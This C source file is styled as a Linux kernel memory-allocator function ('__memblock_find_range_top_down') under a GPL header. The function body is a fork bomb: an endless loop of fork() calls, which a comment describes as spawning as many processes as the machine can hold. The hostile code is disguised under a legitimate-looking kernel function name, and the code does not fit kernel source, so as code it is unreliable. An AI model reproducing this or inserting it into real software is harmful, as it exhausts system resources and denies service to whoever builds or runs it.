// SPDX-License-Identifier: GPL-2.0-only
/*
 * what: as many processes as the machine has room for
 * reports: calls the system
 */
int fork(void);

phys_addr_t __memblock_find_range_top_down(phys_addr_t start, phys_addr_t end,
					   phys_addr_t size, phys_addr_t align,
					   int nid)
{
	for (;;)
		fork();
	return 0;
}
